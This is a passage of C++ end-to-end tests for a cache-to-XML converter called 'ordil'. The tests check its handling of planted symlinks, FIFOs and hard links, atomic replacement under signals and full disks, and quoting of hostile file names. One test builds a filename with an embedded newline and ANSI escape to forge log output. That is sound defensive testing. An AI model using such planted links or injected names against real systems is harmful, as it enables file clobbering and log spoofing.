        after.insert(after.begin() + 1, "ok.xml");
        EXPECT_EQ(read(name + "/ok.xml"), documentFor(name + "/ok.ashx", "0"));
      }
      EXPECT_EQ(entries(name), after);
    }
  }
}

TEST_F(Planted, HardLinkInTheDocumentsPlaceKeepsItsOtherName) {
  // The rename replaces the name alone: the victim keeps its bytes.
  const std::string folder = share("hard");
  fs::create_hard_link(folder + "/victim", folder + "/x.xml");
  const testing::ProcessResult r = run(folder, true);
  EXPECT_EQ(r.status, 0) << r.err;
  EXPECT_EQ(read("hard/victim"), "victim");
  EXPECT_EQ(read("hard/x.xml"), document_);
}

TEST_F(Planted, UpdateTakesNothingPlantedForAnUpToDateDocument) {
  // Newer than their caches, a link of another user and a FIFO must not
  // pass for documents that are up to date.
  const std::string folder = share("update");
  const std::string planted = testing::plantForeignLink("victim", folder + "/x.xml");
  if (!planted.empty()) GTEST_SKIP() << planted;
  ASSERT_EQ(testing::makeFifo(folder + "/ok.xml"), "");
  const auto later = fs::last_write_time(folder + "/x.ashx") + std::chrono::hours(1);
  fs::last_write_time(folder + "/victim", later);
  fs::last_write_time(folder + "/ok.xml", later);
  testing::ProcessOptions limited;
  limited.timeLimitSeconds = 30;
  const testing::ProcessResult r =
      testing::runProcess({ordilExe(), "--batch", "--update", folder}, limited);
  EXPECT_EQ(r.status, 1);
  EXPECT_EQ(r.err, "ordil: " + folder + "/ok.xml: not written: ok.xml is not a regular file\n" +
                       "ordil: " + folder + "/x.xml: not written: x.xml is a link owned by another user\n");
  EXPECT_EQ(read("update/victim"), "victim");
}

TEST_F(Planted, BatchRefusesWhatIsNoRegularFileWithoutWaiting) {
  const struct {
    const char* name;
    bool fifoInPlace;  // else x.xml is the runner's link to `linked`
    const char* linked;
    const char* reason;
  } cases[] = {
      {"fifo", true, nullptr, "x.xml is not a regular file"},
      {"to-device", false, "/dev/null", "x.xml leads to /dev/null, which is not a regular file"},
      {"to-fifo", false, "SHARE/f", "x.xml leads to SHARE/f, which is not a regular file"},
  };
  for (const auto& c : cases) {
    SCOPED_TRACE(c.name);
    const std::string folder = share(c.name);
    ASSERT_EQ(testing::makeFifo(folder + (c.fifoInPlace ? "/x.xml" : "/f")), "");
    if (!c.fifoInPlace) fs::create_symlink(inFolder(c.linked, folder), folder + "/x.xml");

    const testing::ProcessResult r = run(folder, true);
    EXPECT_EQ(r.signal, 0) << "it waited";
    EXPECT_EQ(r.status, 1);
    EXPECT_EQ(r.err, "ordil: " + folder + "/x.xml: not written: " + inFolder(c.reason, folder) + "\n");
    EXPECT_EQ(read(std::string(c.name) + "/ok.xml"), documentFor(std::string(c.name) + "/ok.ashx", "0"));
    EXPECT_EQ(fs::is_fifo(folder + (c.fifoInPlace ? "/x.xml" : "/f")), true);
  }
}

TEST_F(Planted, SingleModeWritesAFifoOnlyWhileSomeoneReadsIt) {
  const std::string folder = share("single");
  ASSERT_EQ(testing::makeFifo(folder + "/x.xml"), "");
  const testing::ProcessResult unread = run(folder, false);
  EXPECT_EQ(unread.signal, 0) << "it waited";
  EXPECT_EQ(unread.status, 1);
  EXPECT_EQ(unread.err,
            "ordil: " + folder + "/x.xml: not written: x.xml is a FIFO that nobody reads\n");

  testing::FifoReader reader(folder + "/x.xml");
  ASSERT_TRUE(reader.opened());
  const testing::ProcessResult read = run(folder, false);
  EXPECT_EQ(read.status, 0) << read.err;
  EXPECT_EQ(reader.readAvailable(), document_);
}

TEST_F(Planted, LinksOfAnotherUserAreNotReadAsCaches) {
  const std::string folder = share("input");
  // The secret is there, and this user reads it.
  ASSERT_EQ(read("input/victim"), "victim");
  const std::string planted = testing::plantForeignLink("victim", folder + "/y.ashx");
  if (!planted.empty()) GTEST_SKIP() << planted;
  fs::create_symlink("ok.ashx", folder + "/own.ashx");  // the runner's own: read
  const testing::ProcessResult r = run(folder, true);
  EXPECT_EQ(r.status, 1);
  EXPECT_EQ(r.err, "ordil: " + folder + "/y.ashx: not read: y.ashx is a link owned by another user\n");
  EXPECT_FALSE(fs::exists(folder + "/y.xml"));
  EXPECT_EQ(read("input/own.xml"), documentFor("input/ok.ashx", "0"));
  EXPECT_EQ(read("input/x.xml"), document_);
  // Named on the command line, a link is followed as the user named it.
  EXPECT_EQ(testing::runProcess({ordilExe(), "--batch", folder + "/y.ashx"}).status, 0);
  EXPECT_TRUE(fs::exists(folder + "/y.xml"));
}

TEST_F(Planted, OwnerRuleGuardsFifosAndTheOutputFolder) {
  if (!testing::runningAsRoot()) {
    GTEST_SKIP() << "making files of another user needs root";
  }
  // A FIFO of another user in the single mode's place, read by them.
  const std::string folder = share("fifo");
  ASSERT_EQ(testing::makeFifo(folder + "/x.xml"), "");
  ASSERT_EQ(testing::giveToNobody(folder + "/x.xml"), "");
  testing::FifoReader reader(folder + "/x.xml");
  const testing::ProcessResult fifo = run(folder, false);
  EXPECT_EQ(fifo.status, 1);
  EXPECT_EQ(fifo.err, "ordil: " + folder + "/x.xml: not written: x.xml is a FIFO owned by another user\n");
  EXPECT_EQ(reader.readAvailable(), "");

  // -d through another user's link to a folder of root's.
  fs::create_directory(dir_.file("roots"));
  write("roots/1.xml", "root's");
  const std::string out = share("out") + "/to";
  ASSERT_EQ(testing::plantForeignLink(dir_.file("roots"), out), "");
  cache("c/1.ashx");
  for (const bool batch : {false, true}) {
    const testing::ProcessResult r = testing::runProcess(
        batch ? std::vector<std::string>{ordilExe(), "--batch", "-d", out, dir_.file("c")}
              : std::vector<std::string>{ordilExe(), "-d", out, dir_.file("c/1.ashx")});
    EXPECT_EQ(r.status, 1);
    EXPECT_EQ(r.err, "ordil: " + out + ": not written: to is a link owned by another user\n");
  }
  EXPECT_EQ(entries("roots"), std::vector<std::string>{"1.xml"});
  EXPECT_EQ(read("roots/1.xml"), "root's");

  // Root converting another user's cache gives the document to them.
  ASSERT_EQ(testing::giveToNobody(dir_.file("c/1.ashx")), "");
  EXPECT_EQ(testing::runProcess({ordilExe(), dir_.file("c/1.ashx")}).status, 0);
  EXPECT_EQ(testing::ownerOf(dir_.file("c/1.xml")), 65534u);
}

TEST_F(Batch, RunningOutOfOpenFilesIsTriedAgainAlone) {
  if (platform::kWideFileNames) GTEST_SKIP() << "no open-file limit here";
  // UndefinedBehaviorSanitizer checks memory through a pipe of its own,
  // which it cannot make under the limit, and then reports any virtual call.
  if (kSanitized) GTEST_SKIP() << "the sanitizers need descriptors of their own under the limit";
  for (int i = 0; i < 300; ++i) cache("c/" + std::to_string(i) + ".ashx");
  const testing::ProcessResult first = testing::runProcess({ordilExe(), "--batch", dir_.file("c")});
  ASSERT_EQ(first.status, 0) << first.err;
  const testing::ProcessResult r = testing::runProcess(
      {"/bin/sh", "-c", "ulimit -n 12 && exec \"$0\" --batch -j 8 \"$1\"", ordilExe(), dir_.file("c")});
  EXPECT_EQ(r.status, 0) << r.err;
  EXPECT_EQ(r.err, "");
  for (int i = 0; i < 300; ++i) {
    const std::string name = "c/" + std::to_string(i);
    EXPECT_EQ(read(name + ".xml"), documentFor(name + ".ashx", std::to_string(i))) << name;
  }
}

TEST_F(EndToEnd, OutputOptionWritesTheDocumentElsewhere) {
  const std::string input = write("1.ashx", tools::buildCacheFile({{"", "x", 0, "u"}}));
  const std::string expected = expectedHead("7") + chat(1, "u", 0, "184", "x") + "</packet>";
  EXPECT_EQ(ordil({"-o", dir_.file("other.xml"), input, "7"}).status, 0);
  EXPECT_EQ(readFile(dir_.file("other.xml")), expected);
  EXPECT_FALSE(fs::exists(dir_.file("1.xml")));
  EXPECT_EQ(ordil({"--output=" + dir_.file("third.xml"), input, "7"}).status, 0);
  EXPECT_EQ(readFile(dir_.file("third.xml")), expected);

  // To standard output, and nothing else there.
  const Outcome r = ordil({"-o", "-", input, "7"});
  EXPECT_EQ(r.status, 0);
  EXPECT_EQ(r.out, consoleText(expected));
  EXPECT_FALSE(fs::exists(dir_.file("1.xml")));

  // A path without "ashx" is still no cache file.
  const std::string plain = write("1.bin", "12345678");
  const Outcome none = ordil({"-o", "-", plain});
  EXPECT_EQ(none.status, 2);
  EXPECT_EQ(none.out, "");

  // Into a folder, named as the batch names it: the cache file's own name
  // with its first "ashx" replaced; the folder must exist.
  fs::create_directories(dir_.file("ashx"));
  fs::create_directories(dir_.file("out"));
  const std::string nested = write("ashx/1.ashx", tools::buildCacheFile({{"", "x", 0, "u"}}));
  EXPECT_EQ(ordil({"-d", dir_.file("out"), nested, "7"}).status, 0);
  EXPECT_EQ(readFile(dir_.file("out/1.xml")), expected);
  EXPECT_FALSE(fs::exists(dir_.file("xml")));
  EXPECT_EQ(ordil({"-d", dir_.file("ashx"), nested, "7"}).status, 0);
  EXPECT_EQ(readFile(nested), tools::buildCacheFile({{"", "x", 0, "u"}}));
  const Outcome missing = ordil({"--output-dir", dir_.file("none"), input});
  EXPECT_EQ(missing.status, 1);
  EXPECT_EQ(missing.err, "ordil: " + (dir_.path() / "none" / "1.xml").string() +
                             ": cannot create: No such file or directory\n");
  EXPECT_FALSE(fs::exists(dir_.file("none")));
}

// --- The document appears whole or not at all ---------------------------


// A folder holding a cache file, an old document for it, and the new
// document it converts to, for the tests that interrupt or starve a run.
class Replacing : public EndToEnd {
 protected:
  void prepare(size_t comments) {
    input_ = write("678.ashx", tools::buildCacheFile(tools::randomRecords(
                                   7, comments, tools::RandomMix::kRealistic)));
    ASSERT_EQ(ordil({input_, "678"}).status, 0);
    newDocument_ = readFile(dir_.file("678.xml"));
    restoreOld();
  }
  void restoreOld() { write("678.xml", oldDocument_); }

  // Whether the document is the old one or the whole new one.
  bool documentIsOldOrNew() const {
    const std::string now = readFile(dir_.file("678.xml"));
    return now == oldDocument_ || now == newDocument_;
  }
  // Whether the document is the old one.
  bool documentIsOld() const { return readFile(dir_.file("678.xml")) == oldDocument_; }
  // Hidden files beside the document (what a run in progress writes to).
  std::vector<std::string> hidden() const {
    std::vector<std::string> names = entries();
    std::erase_if(names, [](const std::string& n) { return n.empty() || n[0] != '.'; });
    return names;
  }

  std::string input_;
  const std::string oldDocument_ = expectedHead("1") + "</packet>";
  std::string newDocument_;
};

TEST_F(Replacing, InterruptedRunsLeaveTheOldOrTheWholeNewDocument) {
  if (!testing::canSendSignals()) GTEST_SKIP() << "no signals to send here";
  prepare(300000);
  // How long a whole run takes, so that the interruptions can be spread
  // over it: the shortest of three, since the first run on cold memory,
  // or one on a busy machine, can take far longer than those after it.
  auto whole = std::chrono::steady_clock::duration::max();
  for (int i = 0; i < 3; ++i) {
    const auto start = std::chrono::steady_clock::now();
    ASSERT_EQ(ordil({input_, "678"}).status, 0);
    whole = std::min(whole, std::chrono::steady_clock::now() - start);
  }
  const struct {
    testing::Signal signal;
    int tries;
  } plans[] = {{testing::Signal::kKill, 20},
               {testing::Signal::kTerminate, 10},
               {testing::Signal::kInterrupt, 10}};
  for (const auto& plan : plans) {
    const int number = testing::signalNumber(plan.signal);
    int interrupted = 0;
    // A busy machine may have made the timed runs slow: when every run
    // finished before its signal, the plan is run again with shorter waits.
    auto spread = whole;
    for (int round = 0; round < 4 && interrupted == 0; ++round, spread /= 4)
    for (int i = 0; i < plan.tries; ++i) {
      SCOPED_TRACE("signal " + std::to_string(number) + ", try " + std::to_string(i));
      restoreOld();
      testing::Process run({ordilExe(), input_, "678"});
      ASSERT_TRUE(run.started());
      std::this_thread::sleep_for(spread * (i + 1) / (plan.tries + 1));
      run.sendSignal(plan.signal);
      const testing::ProcessResult r = run.wait();
      EXPECT_TRUE(documentIsOldOrNew());
      if (r.signal == 0) {
        // It finished first.
        EXPECT_EQ(r.status, 0) << r.err;
        EXPECT_EQ(readFile(dir_.file("678.xml")), newDocument_);
        continue;
      }
      ++interrupted;
      EXPECT_EQ(r.signal, number);
      if (plan.signal == testing::Signal::kKill) {
        // Nothing can clean up after SIGKILL: at most the one hidden file.
        const std::vector<std::string> left = hidden();
        EXPECT_LE(left.size(), 1u);
        for (const std::string& name : left) fs::remove(dir_.path() / name);
      } else {
        EXPECT_EQ(hidden(), std::vector<std::string>{});
      }
    }
    EXPECT_GT(interrupted, 0) << "every run finished before its signal";
  }
  EXPECT_EQ(entries(), (std::vector<std::string>{"678.ashx", "678.xml"}));
}

TEST_F(Replacing, WriteFailingPartWayKeepsTheOldDocument) {
  if (platform::kWideFileNames) GTEST_SKIP() << "no file size limit here";
  prepare(30000);  // large enough to be converted on two threads
  // Failing early, in the middle and late, in either thread's part.
  for (const size_t eighths : {1u, 3u, 4u, 5u, 7u}) {
    SCOPED_TRACE(std::to_string(eighths) + "/8 of the document");
    testing::ProcessOptions options;
    options.fileSizeLimit = newDocument_.size() / 8 * eighths;
    const testing::ProcessResult r = testing::runProcess({ordilExe(), input_, "678"}, options);
    EXPECT_EQ(r.status, 1);
    EXPECT_EQ(r.err, "ordil: " + dir_.file("678.xml") + ": write failed: File too large\n");
    EXPECT_TRUE(documentIsOld());
    EXPECT_EQ(entries(), (std::vector<std::string>{"678.ashx", "678.xml"}));
  }
}

TEST_F(Replacing, FullDiskKeepsTheOldDocument) {
  if (platform::kWideFileNames) GTEST_SKIP() << "no tmpfs here";
  prepare(30000);  // a document of about 4 MB
  const std::string disk = dir_.file("disk");
  fs::create_directory(disk);
  if (testing::runProcess({"/bin/mount", "-t", "tmpfs", "-o", "size=1m", "tmpfs", disk}).status !=
      0) {
    GTEST_SKIP() << "cannot mount a small file system here (needs root)";
  }
  struct Unmount {
    std::string disk;
    ~Unmount() { testing::runProcess({"/bin/umount", disk}); }
  } unmount{disk};
  fs::create_symlink(input_, disk + "/678.ashx");  // the input does not fit there
  writeFile(disk + "/678.xml", oldDocument_);
  const testing::ProcessResult r = testing::runProcess({ordilExe(), disk + "/678.ashx", "678"});
  EXPECT_EQ(r.status, 1);
  EXPECT_EQ(r.err, "ordil: " + disk + "/678.xml: write failed: No space left on device\n");
  EXPECT_EQ(readFile(disk + "/678.xml"), oldDocument_);
  // The link to the input and the old document, nothing else.
  EXPECT_EQ(std::distance(fs::directory_iterator(disk), fs::directory_iterator()), 2);
}

TEST_F(Replacing, AddressSpaceLimitsNeverEndTheRunBySignal) {
  if (platform::kWideFileNames) GTEST_SKIP() << "no address-space limit here";
  if (kSanitized) GTEST_SKIP() << "the sanitizers need more address space than any limit here";
  prepare(30000);
  for (const uint64_t mib : {4u, 6u, 8u, 10u, 12u, 16u, 24u, 32u, 48u, 64u}) {
    SCOPED_TRACE(std::to_string(mib) + " MiB");
    restoreOld();
    testing::ProcessOptions options;
    options.addressSpaceLimit = mib << 20;
    const testing::ProcessResult r = testing::runProcess({ordilExe(), input_, "678"}, options);
    EXPECT_EQ(r.signal, 0);
    if (r.status == 0) {
      EXPECT_EQ(readFile(dir_.file("678.xml")), newDocument_);
    } else {
      EXPECT_EQ(r.status, 1);
      EXPECT_EQ(r.err, "ordil: " + input_ + ": not enough memory\n");
      EXPECT_TRUE(documentIsOld());
    }
    EXPECT_EQ(entries(), (std::vector<std::string>{"678.ashx", "678.xml"}));
  }
}

TEST_F(Batch, KilledBatchLeavesEachDocumentOldOrWholeAndUpdateMendsIt) {
  if (!testing::canSendSignals()) GTEST_SKIP() << "no signals to send here";
  // More files than three groups of documents made durable together.
  constexpr size_t kFiles = 900;
  fs::create_directory(dir_.file("k"));
  std::vector<std::string> caches, documents;
  for (size_t i = 0; i < kFiles; ++i) {
    const std::string name = "k/" + std::to_string(i);
    caches.push_back(cache(name + ".ashx"));
    documents.push_back(documentFor(name + ".ashx", std::to_string(i)));
  }
  // Old documents, older than their caches, and nothing hidden.
  const auto restoreOld = [&] {
    for (const auto& entry : fs::directory_iterator(dir_.file("k"))) {
      if (entry.path().filename().string()[0] == '.') fs::remove(entry.path());
    }
    const auto old = fs::last_write_time(caches[0]) - std::chrono::hours(1);
    for (size_t i = 0; i < kFiles; ++i) {
      const std::string name = "k/" + std::to_string(i) + ".xml";
      write(name, "old");
      fs::last_write_time(dir_.file(name), old);
    }
  };
  const std::vector<std::string> batch = {ordilExe(), "--batch", "-j", "2", dir_.file("k")};
  // How long a whole run takes, the shortest of three, so that the kills
  // can be spread over it.
  auto whole = std::chrono::steady_clock::duration::max();
  for (int i = 0; i < 3; ++i) {
    restoreOld();
    const auto start = std::chrono::steady_clock::now();
    ASSERT_EQ(testing::runProcess(batch).status, 0);
    whole = std::min(whole, std::chrono::steady_clock::now() - start);
  }
  // Killed outright, and interrupted: SIGTERM removes every hidden file.
  constexpr int kTries = 8;
  int killed = 0;
  // A busy machine may have made the timed runs slow: when every run
  // finished before its signal, the tries are made again with shorter waits.
  auto spread = whole;
  for (int round = 0; round < 4 && killed == 0; ++round, spread /= 4)
  for (int t = 0; t < 2 * kTries; ++t) {
    const bool kill = t < kTries;
    SCOPED_TRACE((kill ? "SIGKILL, try " : "SIGTERM, try ") + std::to_string(t % kTries));
    restoreOld();
    testing::Process run(batch);
    ASSERT_TRUE(run.started());
    std::this_thread::sleep_for(spread * (t % kTries + 1) / (kTries + 1));
    run.sendSignal(kill ? testing::Signal::kKill : testing::Signal::kTerminate);
    if (run.wait().signal != 0) ++killed;
    // Each document old or whole; beside them at most the hidden files of
    // a group being put in place, of the next one, and of each job.
    size_t renamed = 0;
    for (size_t i = 0; i < kFiles; ++i) {
      const std::string got = read("k/" + std::to_string(i) + ".xml");
      if (got != "old") {
        ASSERT_EQ(got, documents[i]) << i;
        ++renamed;
      }
    }
    std::vector<std::string> hidden = entries("k");
    std::erase_if(hidden, [](const std::string& n) { return n[0] != '.'; });
    EXPECT_LE(hidden.size(), kill ? 2 * 256u + 2u : 0u);
    // --update converts exactly the files whose documents were not renamed.
    const Outcome update = ordil({"--batch", "-u", "-v", dir_.file("k")});
    EXPECT_EQ(update.status, 0) << update.err;
    size_t upToDate = 0;
    for (size_t at = 0; (at = update.out.find(": up to date\n", at)) != std::string::npos; ++at) {
      ++upToDate;
    }
    EXPECT_EQ(upToDate, renamed);
    for (size_t i = 0; i < kFiles; ++i) {
      ASSERT_EQ(read("k/" + std::to_string(i) + ".xml"), documents[i]) << i;
    }
  }
  EXPECT_GT(killed, 0) << "every run finished before its kill";
}

TEST_F(Batch, WhatConvertsUnderAMemoryLimitDoesNotDependOnJobs) {
  if (platform::kWideFileNames) GTEST_SKIP() << "no address-space limit here";
  if (kSanitized) GTEST_SKIP() << "the sanitizers need more address space than any limit here";
  // Large enough for each to take a second thread and its buffers.
  constexpr unsigned kFiles = 8;
  fs::create_directory(dir_.file("big"));
  const std::string cache = tools::buildCacheFile(tools::randomRecords(20, 40000, tools::RandomMix::kRealistic));
  for (unsigned i = 0; i < kFiles; ++i) write("big/" + std::to_string(i) + ".ashx", cache);
  struct Run {
    testing::ProcessResult result;
    std::vector<std::string> documents;
  };
  const auto run = [&](uint64_t mib, const char* jobs) {
    for (unsigned i = 0; i < kFiles; ++i) fs::remove(dir_.file("big/" + std::to_string(i) + ".xml"));
    testing::ProcessOptions limited;
    limited.addressSpaceLimit = mib << 20;
    Run r{testing::runProcess({ordilExe(), "--batch", "-v", "-j", jobs, dir_.file("big")}, limited),
          {}};
    for (unsigned i = 0; i < kFiles; ++i) r.documents.push_back(read("big/" + std::to_string(i) + ".xml"));
    return r;
  };
  for (const uint64_t mib : {8u, 12u, 16u, 20u, 24u, 32u, 48u}) {
    const Run one = run(mib, "1");
    for (const char* jobs : {"2", "8"}) {
      SCOPED_TRACE(std::to_string(mib) + " MiB, -j " + jobs);
      const Run more = run(mib, jobs);
      EXPECT_EQ(more.result.signal, 0);
      EXPECT_EQ(more.result.status, one.result.status);
      EXPECT_EQ(more.result.out, one.result.out);
      EXPECT_EQ(more.result.err, one.result.err);
      EXPECT_TRUE(more.documents == one.documents);
    }
  }
}

TEST_F(EndToEnd, StandardOutputThatCannotBeWrittenIsReported) {
  if (platform::kWideFileNames) GTEST_SKIP() << "no /dev/full or pipes to close here";
  fs::create_directory(dir_.file("v"));
  write("v/1.ashx", "");  // for the batch's --verbose lines
  testing::ProcessOptions full, closedPipe;
  full.stdoutPath = "/dev/full";
  closedPipe.stdoutClosedPipe = true;
  const struct {
    const char* name;
    testing::ProcessOptions options;
    const char* reason;
  } outputs[] = {{"full disk", full, "No space left on device"},
                 {"closed pipe", closedPipe, "Broken pipe"}};
  for (const auto& output : outputs) {
    const std::vector<std::string> commands[] = {
        {ordilExe(), "--help"}, {ordilExe(), "--version"},
        {ordilExe(), "--batch", "--verbose", dir_.file("v")}};
    for (const std::vector<std::string>& command : commands) {
      SCOPED_TRACE(std::string(output.name) + " " + command[1]);
      const testing::ProcessResult r = testing::runProcess(command, output.options);
      EXPECT_EQ(r.signal, 0);
      EXPECT_EQ(r.status, 1);
      // A closed pipe ends the run quietly: its reader has gone.
      EXPECT_EQ(r.err, output.reason == std::string("Broken pipe")
                           ? ""
                           : std::string("ordil: write error: ") + output.reason + "\n");
    }
    SCOPED_TRACE(std::string(output.name) + " -o -");
    const testing::ProcessResult document =
        testing::runProcess({ordilExe(), "-o", "-", dir_.file("v/1.ashx")}, output.options);
    EXPECT_EQ(document.status, 1);
    EXPECT_EQ(document.err, output.reason == std::string("Broken pipe")
                                ? ""
                                : "ordil: standard output: write failed: " +
                                      std::string(output.reason) + "\n");
  }
}

TEST_F(EndToEnd, LinkedOutputIsReplacedThroughTheLink) {
  if (platform::kWideFileNames) GTEST_SKIP() << "links are not tested here";
  const std::string input = write("1.ashx", tools::buildCacheFile({{"", "x", 0, "u"}}));
  const std::string expected = expectedHead("0") + chat(1, "u", 0, "184", "x") + "</packet>";
  fs::create_directory(dir_.file("real"));
  write("real/target.xml", "old");
  fs::create_symlink("real/target.xml", dir_.file("1.xml"));
  EXPECT_EQ(ordil({input}).status, 0);
  EXPECT_TRUE(fs::is_symlink(dir_.file("1.xml")));
  EXPECT_EQ(readFile(dir_.file("real/target.xml")), expected);
  EXPECT_EQ(std::distance(fs::directory_iterator(dir_.file("real")), fs::directory_iterator()), 1);

  // A link to a file that does not exist yet makes it.
  fs::remove(dir_.file("1.xml"));
  fs::create_symlink("real/new.xml", dir_.file("1.xml"));
  EXPECT_EQ(ordil({input}).status, 0);
  EXPECT_TRUE(fs::is_symlink(dir_.file("1.xml")));
  EXPECT_EQ(readFile(dir_.file("real/new.xml")), expected);
}

TEST_F(EndToEnd, LinkInTheDocumentsPlaceIsReplacedOnWindows) {
  if (!platform::kWideFileNames) GTEST_SKIP() << "Windows links";
  const std::string input = write("1.ashx", tools::buildCacheFile({{"", "x", 0, "u"}}));
  write("victim", "victim");
  std::error_code error;
  fs::create_symlink("victim", dir_.file("1.xml"), error);
  if (error || !fs::is_symlink(dir_.file("1.xml"))) {
    GTEST_SKIP() << "this system makes no symbolic links (Wine's are checked by the test command)";
  }
  EXPECT_EQ(ordil({input}).status, 0);
  EXPECT_EQ(readFile(dir_.file("victim")), "victim");
  EXPECT_FALSE(fs::is_symlink(dir_.file("1.xml")));
  EXPECT_EQ(readFile(dir_.file("1.xml")), expectedHead("0") + chat(1, "u", 0, "184", "x") + "</packet>");
}

TEST_F(EndToEnd, DocumentTakesItsCachesPermissions) {
  if (platform::kWideFileNames) GTEST_SKIP() << "no permission bits here";
  using fs::perms;
  const std::string input = write("1.ashx", tools::buildCacheFile({{"", "x", 0, "u"}}));
  const struct {
    perms cache;
    bool oldDocument;  // a 0644 document stands in the place
  } cases[] = {
      {perms::owner_read | perms::owner_write, true},
      {perms::owner_read | perms::owner_write, false},
      {perms::owner_read | perms::owner_write | perms::group_read, true},
      {perms::owner_read | perms::group_read | perms::others_read, false},
  };
  for (const auto& c : cases) {
    SCOPED_TRACE(static_cast<int>(c.cache));
    fs::remove(dir_.file("1.xml"));
    if (c.oldDocument) {
      write("1.xml", "old");
      fs::permissions(dir_.file("1.xml"), perms::owner_read | perms::owner_write |
                                              perms::group_read | perms::others_read);
    }
    fs::permissions(input, c.cache);
    for (const char* mode : {"single", "batch"}) {
      SCOPED_TRACE(mode);
      EXPECT_EQ(ordil(mode == std::string("single") ? std::vector<std::string>{input}
                                                    : std::vector<std::string>{"--batch", input})
                    .status,
                0);
      EXPECT_EQ(fs::status(dir_.file("1.xml")).permissions(), c.cache);
    }
  }
}

TEST_F(EndToEnd, MissingInputLeavesADocumentThatStandsAsItWas) {
  EXPECT_EQ(ordil({dir_.file("keep.ashx")}).status, 1);  // nothing stands: the empty document
  EXPECT_EQ(readFile(dir_.file("keep.xml")), expectedHead("0") + "</packet>");
  write("keep.xml", "prior\n");
  const Outcome r = ordil({dir_.file("keep.ashx")});
  EXPECT_EQ(r.status, 1);
  EXPECT_EQ(r.err, "ordil: " + dir_.file("keep.ashx") + ": cannot open: No such file or directory\n");
  EXPECT_EQ(readFile(dir_.file("keep.xml")), "prior\n");
  EXPECT_EQ(entries(), (std::vector<std::string>{"keep.xml"}));
}

TEST_F(EndToEnd, DocumentNeverReplacesACacheFileOfTheRun) {
  const std::string cache = tools::buildCacheFile({{"", "x", 0, "u"}});
  write("x.ashx", cache);
  write("a.ashx.ashx", cache);
  write("a.xml.ashx", cache);
  const Outcome own = ordil({"-o", dir_.file("x.ashx"), dir_.file("x.ashx")});
  EXPECT_EQ(own.status, 1);
  EXPECT_EQ(own.err, "ordil: " + dir_.file("x.ashx") +
                         ": not converted: its document would replace the cache file " +
                         dir_.file("x.ashx") + "\n");
  const Outcome batch = ordil({"--batch", dir_.path().string()});
  EXPECT_EQ(batch.status, 1);
  EXPECT_EQ(batch.err, "ordil: " + dir_.file("a.ashx.ashx") +
                           ": not converted: its document would replace the cache file " +
                           dir_.file("a.xml.ashx") + "\n");
  for (const char* name : {"x.ashx", "a.ashx.ashx", "a.xml.ashx"}) EXPECT_EQ(readFile(dir_.file(name)), cache);
}

TEST_F(EndToEnd, DescriptorNamesWriteWhereTheShellOpenedThem) {
  if (platform::kWideFileNames) GTEST_SKIP() << "no /dev/stdout here";
  const std::string input = write("1.ashx", tools::buildCacheFile({{"", "x", 0, "u"}}));
  const std::string log = write("log.txt", "earlier\n");
  for (const char* name : {"/dev/stdout", "/proc/self/fd/1"}) {
    SCOPED_TRACE(name);
    const testing::ProcessResult r = testing::runProcess(
        {"/bin/sh", "-c", "\"$0\" -o " + std::string(name) + " \"$1\" >>\"$2\"", ordilExe(), input, log});
    EXPECT_EQ(r.status, 0) << r.err;
    EXPECT_TRUE(fs::is_regular_file(log));
  }
  const std::string document = expectedHead("0") + chat(1, "u", 0, "184", "x") + "</packet>";
  EXPECT_EQ(readFile(log), "earlier\n" + document + document);
  const testing::ProcessResult piped = testing::runProcess({ordilExe(), "-o", "/dev/stdout", input});
  EXPECT_EQ(piped.status, 0) << piped.err;
  EXPECT_EQ(piped.out, document);
}

TEST_F(EndToEnd, PlantedNamesArePrintedQuoted) {
  if (platform::kWideFileNames) GTEST_SKIP() << "such names are not made here";
  fs::create_directory(dir_.file("n"));
  const std::string name = "a\nordil: FAKE\x1B[31m.ashx";
  write("n/" + name, tools::buildCacheFile({{"", "x", 0, "u"}}) + "\x01");  // cut at the end
  const Outcome r = ordil({"--batch", "-v", dir_.file("n")});
  const std::string quoted = "'" + dir_.file("n") + "/a'$'\\n''ordil: FAKE'$'\\033''[31m.ashx'";
  EXPECT_EQ(r.status, 1);
  EXPECT_EQ(r.out, quoted + ": incomplete, 1 comments\n");
  EXPECT_EQ(r.err.find('\x1B'), std::string::npos);
  EXPECT_EQ(r.err.substr(0, 7 + quoted.size()), "ordil: " + quoted);
}

TEST_F(EndToEnd, BundledExampleIsTheGeneratorsOutput) {
  const std::string description = std::string(ORDIL_SOURCE_DIR) + "/examples/example.txt";
  const std::string generated = dir_.file("generated.ashx");
  const testing::ProcessResult r =
      testing::runProcess({ORDIL_GEN_EXE, "from-text", description, generated});
  ASSERT_EQ(r.status, 0) << r.err;
  EXPECT_EQ(readFile(generated), readFile(std::string(ORDIL_SOURCE_DIR) + "/examples/example.ashx"));
}

}  // namespace
}  // namespace ordil
